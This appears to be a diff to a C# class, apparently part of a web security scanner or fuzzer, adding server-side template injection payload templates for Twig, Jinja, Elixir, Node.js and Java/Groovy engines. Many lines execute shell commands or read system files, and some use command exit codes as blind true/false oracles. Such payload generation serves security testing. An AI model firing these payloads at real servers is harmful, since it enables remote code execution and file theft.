@@ -215,6 +215,9 @@ internal static class Ssti
         include request.«args.«letter»¦headers.«letter»»
         debug
         load «log¦module» %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.«password¦get_username»}}{% endfor
+        for «letter» in ["«error_reporting¦display_errors¦ob_start¦disable_functions»"«,"1"¦,"0"¦»]|«sort¦map¦filter»("«ini_set¦call_user_func¦ini_get»") %}{% endfor
+        set «letter» = ["«shellcmd»"]|«map¦sort¦filter»("«phpfn»")|join %}{{«letter»}}{% set «letter»=1
+        if «jinja» == "«letter»" %}{{1/0}}{% endif
         for «letter» in range(«#1-9»«#100000-9999999») %}«letter»{% endfor
         extends "«unixfile»"
         raw %}«jinja»{% endraw
@@ -234,6 +237,11 @@ internal static class Ssti
         include("««unixfile»¦@word/x»")
         source('«unixfile»')
         dump(«app¦_context¦»)
+        1/((['«shellcmd»'«¦,'0'»]|«sort¦map¦reduce¦filter»('«phpfn»')«|first¦|join¦|length») == '«num»')
+        include('«word»:/'~(['«shellcmd»']|map('«phpfn»')|join))
+        (['«shellcmd»']|map('«phpfn»')|join)~'«rand»'
+        [«num»,«num»]|«sort¦reduce¦map¦filter»((a,b)=>«phpfn»('«shellcmd»'))
+        ['ob_start','call_user_func']|sort('call_user_func')
         _context|keys|join(',')
         ["error_reporting","0"]|sort("ini_set")
         {"«shellcmd»":"«phpfn»"}|«map¦reduce»("call_user_func")
@@ -461,6 +469,11 @@ internal static class Ssti
         ¶ ---- engines of Node.js and others with their own marks ----
         §nodeengines
         2× {{= «nodeexec» }}
+        <%= «elixir» %>
+        {{ «oracle» }}
+        ${«oracle»}
+        <%= «oracle» %>
+        {%«¦-» if «oracle» %}«rand»{% endif %}
         {{= global.process.mainModule.require('child_process').execSync('«shellcmd»') }}
         {@exec str='«shellcmd»'/}
         ${«nodeexec»}
@@ -479,6 +492,34 @@ internal static class Ssti
         {{_openBlock.constructor('«alert(1)¦return this.process»')()}}
         settings[view options][outputFunctionName]=x;«nodeexec»;s
         __proto__.outputFunctionName=x;«nodeexec»;x
+        §elixir
+        System.«shell("«shellcmd»")¦cmd("«catcmd»", ["«unixfile»"])¦halt()¦get_env()»«¦|> elem(0)»
+        «File.read!("«unixfile»")¦:os.cmd('«shellcmd»')¦Code.eval_string("«calcpart»")»
+        [«num», «num»][elem(System.shell("«shellcmd»"), «0¦1»)]
+        §catcmd
+        «cat¦head¦tail»
+        §oracle
+        1/(«truth»)
+        [«num»][«truth»]
+        («truth») ? «num» : "«rand»"
+        "«rand»"+(«truth»)
+        ''.join(«truth»)
+        «truth» or 1/0
+        («truth» and 'a') or 1/0
+        getattr("", "«rand»"+(«truth»))
+        File.read("«rand»"+(«truth»).to_s)
+        cycler.__init__.__globals__.os.popen('«shellcmd»').read()
+        §truth
+        «num»==«num»
+        __import__("os").popen("«shellcmd»").read()«¦ == "«rand»"»
+        cycler.__init__.__globals__.os.popen("«shellcmd»")._proc.wait() == 0
+        system("«shellcmd»") == 0
+        `«shellcmd»`.length == «num»
+        T(java.lang.Runtime).getRuntime().exec("«shellcmd»").waitFor()==0
+        "«shellcmd»".execute().waitFor()==0
+        require('child_process').spawnSync('«shellcmd»').status===0
+        include("«rand»").length
+        «calcpart»==«num»
         §polyglot
         2× ${{<%[%'"}}%\«¦.¦,»
         «$p:calcpart»}}${«$p»}#{«$p»}<%= «$p» %>{{«$p»
